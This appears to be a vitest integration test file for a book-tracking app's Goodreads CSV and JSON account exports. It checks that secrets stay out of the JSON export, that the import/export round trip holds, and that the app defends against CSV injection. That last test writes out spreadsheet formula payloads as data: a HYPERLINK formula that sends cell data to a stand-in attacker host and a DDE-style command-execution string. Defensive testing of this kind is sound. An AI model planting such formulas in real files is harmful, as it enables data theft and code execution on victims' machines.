import type { Import, ReadingList, ShelvesResponse } from '@nebab/shared';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureCatalog } from '../../catalog/ensure-catalog.js';
import { selectRows } from '../../db/sql-helpers.js';
import { writeFixtureCatalog } from '../../../test/catalog-fixture.js';
import { signUp, startTestServer, type TestServer } from '../../../test/helpers.js';
import {
  csvFile,
  GOODREADS_COLUMNS,
  goodreadsRow,
  importAndWait,
  isbnCell,
} from '../../../test/import-fixtures.js';

let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
  await ensureCatalog(server.db, { catalogDir: writeFixtureCatalog(), catalogEthiopianShopContent: false });
}, 60_000);
afterAll(() => server?.close());

const importFile = (token: string, file: Buffer): Promise<Import> => importAndWait(server, token, file);

async function download(path: string, token?: string) {
  const response = await fetch(`${server.url}${path}`, {
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** The library as the reader sees it, reduced to what a round trip must keep. */
async function librarySummary(token: string) {
  const list = (await server.request<ReadingList>('/api/reading-list', { token })).body;
  const all = [...list.currentlyReading, ...list.wantToRead, ...list.completed, ...list.didNotFinish];
  const shelves = (await server.request<ShelvesResponse>('/api/shelves', { token })).body.items;
  const me = (await server.request<{ user: { id: string } }>('/api/auth/me', { token })).body.user;
  const ratings = await selectRows<{ book_id: string; rating: number; comment: string }>(
    server.db,
    sql`SELECT book_id, rating, comment FROM reviews WHERE user_id = ${me.id} ORDER BY book_id`,
  );
  return {
    entries: all
      .map((entry) => ({
        bookId: entry.bookId,
        status: entry.status,
        addedAt: entry.addedAt.slice(0, 10),
        finishedAt: entry.finishedAt?.slice(0, 10) ?? null,
        reads: entry.reads.map((read) => [read.outcome, read.finishedAt?.slice(0, 10) ?? null]),
        shelves: entry.shelves.map((shelf) => shelf.name).sort(),
      }))
      .sort((a, b) => a.bookId.localeCompare(b.bookId)),
    shelves: shelves.map((shelf) => [shelf.name, shelf.bookCount]),
    ratings: ratings.map((row) => [row.book_id, row.rating, row.comment]),
  };
}

const library = () =>
  csvFile(GOODREADS_COLUMNS, [
    goodreadsRow({
      'Book Id': '2767052',
      Title: 'The Hunger Games (The Hunger Games, #1)',
      Author: 'Suzanne Collins',
      'My Rating': 5,
      'My Review': 'Brave, and "sad"; line one<br/>line two',
      'Date Read': '2019/05/04',
      'Date Added': '2018/11/02',
      Bookshelves: 'favorites, ya',
      'Exclusive Shelf': 'read',
      'Read Count': 3,
      'Owned Copies': 2,
    }),
    goodreadsRow({
      'Book Id': '3',
      Title: "Harry Potter and the Sorcerer's Stone",
      Author: 'J.K. Rowling',
      'Exclusive Shelf': 'currently-reading',
      'Date Added': '2024/02/02',
    }),
    goodreadsRow({
      Title: 'Dust of Gondar',
      Author: 'Selam Tesfaye',
      ISBN13: isbnCell('9780000000019'),
      'Number of Pages': 220,
      'Exclusive Shelf': 'to-read',
      'Date Added': '2022/10/10',
      Bookshelves: 'ethiopia',
    }),
    goodreadsRow({
      Title: 'The Long Rains',
      Author: 'Meron Gebre',
      'Exclusive Shelf': 'did-not-finish',
      'Date Read': '2023/04/01',
      'Date Added': '2023/03/01',
      'My Rating': 2,
    }),
  ]);

describe('exports', () => {
  let token: string;
  beforeAll(async () => {
    token = (await signUp(server, { fullName: 'Saba Export' })).token;
    await importFile(token, library());
  }, 60_000);

  it('writes the library in Goodreads’ layout', async () => {
    const csv = await download('/api/exports/goodreads.csv', token);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(
      /attachment; filename="nebab_library_export_\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const rows = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!)).toEqual([...GOODREADS_COLUMNS]);
    const hunger = rows.find((row) => row['Book Id'] === '2767052')!;
    expect(hunger).toMatchObject({
      Title: 'The Hunger Games (The Hunger Games, #1)',
      Author: 'Suzanne Collins',
      'Author l-f': 'Collins, Suzanne',
      'My Rating': '5',
      'Date Read': '2019/05/04',
      'Date Added': '2018/11/02',
      'Exclusive Shelf': 'read',
      Bookshelves: 'read, favorites, ya',
      'My Review': 'Brave, and "sad"; line one<br/>line two',
      'Read Count': '3',
      'Owned Copies': '2',
    });
    expect(hunger.ISBN13).toMatch(/^="97804390234\d\d"$/);
    const dust = rows.find((row) => row.Title === 'Dust of Gondar')!;
    expect(dust).toMatchObject({
      'Exclusive Shelf': 'to-read',
      ISBN13: '="9780000000019"',
      'Number of Pages': '220',
    });
    expect(rows.find((row) => row.Title === 'The Long Rains')).toMatchObject({
      'Exclusive Shelf': 'did-not-finish',
      'Date Read': '2023/04/01',
    });
  });

  it('gives everything Nebab keeps about the reader as JSON, secrets left out', async () => {
    const json = await download('/api/exports/account.json', token);
    expect(json.status).toBe(200);
    expect(json.headers.get('content-disposition')).toMatch(/attachment; filename="nebab_account_/);
    const data = JSON.parse(json.text) as Record<string, unknown>;
    expect(Object.keys(data)).toEqual([
      'format',
      'exportedAt',
      'profile',
      'preferences',
      'readingList',
      'shelves',
      'reviews',
      'clubs',
      'lists',
      'relationships',
      'notificationSettings',
      'goals',
      'imports',
    ]);
    expect(data.profile).toMatchObject({ name: 'Saba Export' });
    expect(json.text).not.toMatch(/password_?hash|token_?hash|secret|recovery_?code/i);
    const readingList = data.readingList as Array<{
      bookId: string;
      reads: unknown[];
      shelves: string[];
      ownedCopies: number;
    }>;
    expect(readingList).toHaveLength(4);
    expect(readingList.find((item) => item.bookId === '1')).toMatchObject({
      shelves: ['favorites', 'ya'],
      ownedCopies: 2,
    });
    expect((data.reviews as { reviews: unknown[] }).reviews).toHaveLength(2);
    expect((data.imports as unknown[]).length).toBe(1);
  });

  it('is for the signed-in reader only', async () => {
    expect((await download('/api/exports/goodreads.csv')).status).toBe(401);
    expect((await download('/api/exports/account.json')).status).toBe(401);
  });

  it('round trip: the export imported into a fresh account gives the same library', async () => {
    const csv = await download('/api/exports/goodreads.csv', token);
    const fresh = (await signUp(server)).token;
    const done = await importFile(fresh, Buffer.from(csv.text, 'utf8'));
    expect(done).toMatchObject({ status: 'done', total: 4, created: 0, skipped: 0, matched: 4 });
    expect(await librarySummary(fresh)).toEqual(await librarySummary(token));
  });
});

describe('a cell a spreadsheet would run (CSV injection)', () => {
  /** Text that starts with each character OWASP lists (= + - @ tab, carriage return). */
  const TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
  const AUTHOR = '@SUM(1+1) Writer';
  const REVIEW = "-2+3 cmd|' /C calc'!A0";
  const SHELF = '+shelf';

  it('comes back as text in every reader’s export, ISBN cells still `="…"`, and imports as typed', async () => {
    // Any reader may add a book; another reader puts it on their list, reviews it, shelves it.
    const adder = (await signUp(server)).token;
    const added = await server.request<{ id: string }>('/api/books', {
      token: adder,
      body: { title: TITLE, authors: [AUTHOR], isbn: '9780306406157', language: 'en' },
    });
    expect(added.status).toBe(201);
    const victim = (await signUp(server)).token;
    const bookId = added.body.id;
    expect(
      (await server.request('/api/reading-list', { token: victim, body: { bookId, status: 'wantToRead' } }))
        .status,
    ).toBe(201);
    expect(
      (
        await server.request(`/api/books/${bookId}/reviews`, {
          token: victim,
          body: { rating: 4, comment: REVIEW, visibility: 'private' },
        })
      ).status,
    ).toBe(201);
    const shelf = await server.request<{ id: string }>('/api/shelves', {
      token: victim,
      body: { name: SHELF },
    });
    expect(shelf.status).toBe(201);
    expect(
      (
        await server.request(`/api/shelves/${shelf.body.id}/books/${bookId}`, {
          method: 'PUT',
          token: victim,
        })
      ).status,
    ).toBe(204);

    const csv = await download('/api/exports/goodreads.csv', victim);
    expect(csv.status).toBe(200);
    const cells = (parse(csv.text) as string[][]).flat();
    const live = cells.filter((value) => /^[=+\-@\t\r]/.test(value));
    // The only cells a spreadsheet evaluates are Goodreads' ISBN cells, digits only.
    expect(live.filter((value) => !/^="[0-9X]*"$/.test(value))).toEqual([]);
    const [row] = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({
      Title: `'${TITLE}`,
      Author: `'${AUTHOR}`,
      'My Review': `'${REVIEW}`,
      ISBN13: '="9780306406157"',
      ISBN: '=""',
    });
    expect(row!.Bookshelves).toBe(`to-read, ${SHELF}`);

    // Taken back into Nebab, the quote comes off: the same book, review and shelf as typed.
    const again = (await signUp(server)).token;
    const done = await importFile(again, Buffer.from(csv.text, 'utf8'));
    expect(done).toMatchObject({ status: 'done', matched: 1, created: 0 });
    const shelves = (await server.request<ShelvesResponse>('/api/shelves', { token: again })).body.items;
    expect(shelves.map((item) => item.name)).toEqual([SHELF]);
    const reviews = await selectRows<{ comment: string }>(
      server.db,
      sql`SELECT comment FROM reviews WHERE book_id = ${bookId} ORDER BY created_at`,
    );
    expect(reviews.map((review) => review.comment)).toEqual([REVIEW, REVIEW]);
  }, 60_000);
});
